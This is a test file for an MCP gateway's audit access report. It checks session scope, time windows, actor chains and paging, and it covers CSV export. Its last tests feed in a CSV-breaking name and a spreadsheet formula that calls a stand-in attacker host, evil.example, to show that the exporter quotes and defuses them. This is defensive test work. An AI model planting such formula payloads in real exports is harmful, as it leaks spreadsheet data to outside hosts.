import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { accessCsv, accessReport, accessWindow } from '../../src/audit/access.ts';
import { loadCheckpointSigner } from '../../src/audit/checkpoint.ts';
import { FileAuditSink } from '../../src/audit/file-sink.ts';
import { type AuditKind, auditRecord, type RecordedPrincipal, type AuditRecord } from '../../src/audit/record.ts';
import { MemoryAuditSink } from '../helpers/audit.ts';

// "Who could call fs_delete on the files server between 10:00 and 11:00, and who did",
// reconstructed from session and decision records written the way the core writes them.
const SERVER = 'https://mcp.example.com/files';
const OTHER = 'https://mcp.example.com/mail';
const ISS = 'https://idp.example.com';
const WINDOW = {
  server: SERVER,
  tool: 'fs_delete',
  since: '2026-12-01T10:00:00.000Z',
  until: '2026-12-01T11:00:00.000Z',
};
const at = (hhmm: string) => Date.parse(`2026-12-01T${hhmm}:00.000Z`);
const who = (sub: string, extra: Partial<RecordedPrincipal> = {}): RecordedPrincipal => ({
  iss: ISS,
  sub,
  client_id: 'app-1',
  ...extra,
});

let sink: MemoryAuditSink;
const add = (kind: AuditKind, hhmm: string, fields: Partial<AuditRecord>) =>
  sink.append(auditRecord(kind, at(hhmm), 'pep', { server: SERVER, ...fields }));
const created = (session: string, hhmm: string, principal: RecordedPrincipal, scope: string[], expires = '23:00') =>
  add('session.created', hhmm, {
    session,
    principal,
    detail: { scope, expires_at: new Date(at(expires)).toISOString() },
  });
const call = (hhmm: string, principal: RecordedPrincipal, allow: boolean, tool = 'fs_delete', server = SERVER) =>
  add('decision', hhmm, { principal, tool, allow, server, method: 'tools/call' });
const subs = async (query = WINDOW) =>
  Object.fromEntries((await accessReport(sink, query)).rows.map((r) => [r.principal.sub, r]));

beforeEach(() => {
  sink = new MemoryAuditSink();
});

describe('accessReport', () => {
  it('names a session whose scope held the tool during the window, and counts the calls made', async () => {
    await created('s-alice', '09:00', who('alice'), ['fs_read', 'fs_delete']);
    await call('10:15', who('alice'), true);
    await call('10:20', who('alice'), true);
    await call('10:25', who('alice'), false);
    const { alice } = await subs();
    expect(alice).toEqual({
      principal: who('alice'),
      could: true,
      did: 2,
      denied: 1,
      sessions: ['s-alice'],
      first_at: '2026-12-01T10:15:00.000Z',
      last_at: '2026-12-01T10:20:00.000Z',
    });
  });

  it('counts a scope widened to the tool inside the window, not one that never held it', async () => {
    await created('s-bob', '09:00', who('bob'), ['fs_read']);
    await add('session.widened', '10:30', { session: 's-bob', detail: { scope: ['fs_read', 'fs_delete'] } });
    await created('s-carol', '09:00', who('carol'), ['fs_read']);
    const rows = await subs();
    expect(rows.bob).toMatchObject({ could: true, did: 0, sessions: ['s-bob'] });
    expect(rows.carol).toBeUndefined();
  });

  it('leaves out a session revoked, expired or widened outside the window', async () => {
    await created('s-dave', '08:00', who('dave'), ['fs_delete']);
    await add('session.revoked', '09:30', { session: 's-dave' });
    await created('s-erin', '08:00', who('erin'), ['fs_delete'], '09:45');
    await created('s-fay', '09:00', who('fay'), ['fs_read']);
    await add('session.widened', '11:30', { session: 's-fay', detail: { scope: ['fs_delete'] } });
    await created('s-gus', '11:10', who('gus'), ['fs_delete']);
    expect(await subs()).toEqual({});
  });

  it('keeps a session revoked inside the window, and one expiring inside it', async () => {
    await created('s-hal', '09:00', who('hal'), ['fs_delete']);
    await add('session.revoked', '10:05', { session: 's-hal' });
    await created('s-ivy', '09:00', who('ivy'), ['*'], '10:10');
    const rows = await subs();
    expect(rows.hal?.could).toBe(true);
    expect(rows.ivy?.could).toBe(true);
  });

  it('keeps another server, another tool and calls outside the window out of the answer', async () => {
    await call('10:15', who('jo'), true, 'fs_delete', OTHER);
    await call('10:15', who('jo'), true, 'fs_read');
    await call('09:59', who('jo'), true);
    await call('11:00', who('jo'), true);
    expect(await subs()).toEqual({});
  });

  it('tells an agent acting for alice apart from alice, and a refused principal from one that could', async () => {
    const agent = who('alice', { actor: [{ iss: ISS, sub: 'agent-7', client_id: null, spiffe_id: null }] });
    await call('10:15', who('alice'), true);
    await call('10:16', agent, false);
    const { rows } = await accessReport(sink, WINDOW);
    expect(rows.map((r) => [r.principal.actor?.length ?? 0, r.could, r.did, r.denied])).toEqual([
      [0, true, 1, 0],
      [1, false, 0, 1],
    ]);
  });

  it('reads a real trail page by page, and says when it read it only in part', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mcp-warden-access-'));
    const file = new FileAuditSink({
      path: join(dir, 'audit.jsonl'),
      signer: await loadCheckpointSigner(join(dir, 'checkpoint.jwk')),
      checkpointEveryRecords: 1000,
      checkpointEveryMs: 60_000,
      maxFileBytes: 1 << 30,
    });
    await file.start();
    for (let i = 0; i < 2500; i++) {
      await file.append(
        auditRecord('decision', at('10:15'), 'pep', {
          server: SERVER,
          tool: 'fs_delete',
          allow: true,
          principal: who(`p${i % 3}`),
        }),
      );
    }
    const whole = await accessReport(file, WINDOW);
    expect(whole).toMatchObject({ scanned: 2500, truncated: false });
    expect(whole.rows.map((r) => r.did).reduce((a, b) => a + b)).toBe(2500);
    const part = await accessReport(file, WINDOW, { maxRecords: 1000 });
    expect(part).toMatchObject({ scanned: 1000, truncated: true });
    await file.stop();
  });

  it('refuses a window that ends before it starts, naming the field', async () => {
    const err = await accessReport(sink, { ...WINDOW, since: WINDOW.until, until: WINDOW.since }).catch((e) => e);
    expect(err).toMatchObject({ code: 'invalid_request', errors: [{ path: 'since' }] });
  });
});

describe('accessWindow', () => {
  it('defaults to the hour before now, or before the given end', () => {
    const now = at('12:00');
    expect(accessWindow(undefined, undefined, now)).toEqual({
      since: '2026-12-01T11:00:00.000Z',
      until: '2026-12-01T12:00:00.000Z',
    });
    expect(accessWindow(undefined, WINDOW.until, now).since).toBe(WINDOW.since);
  });
});

describe('accessCsv', () => {
  it('writes one RFC 4180 row per principal, a hostile name quoted and the chain spelled out', async () => {
    const hostile = 'x","y"\nnext';
    await call(
      '10:15',
      who(hostile, { actor: [{ iss: ISS, sub: 'agent-7', client_id: null, spiffe_id: null }] }),
      true,
    );
    const rows = parse(accessCsv(await accessReport(sink, WINDOW)), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ sub: hostile, actor: `agent-7@${ISS}`, could: 'yes', did: '1', denied: '0' });
  });

  it('defuses a name a spreadsheet would run as a formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1)';
    await call('10:15', who(formula), true);
    const rows = parse(accessCsv(await accessReport(sink, WINDOW)), { columns: true }) as Record<string, string>[];
    expect(rows[0]?.sub).toBe(`'${formula}`);
  });
});
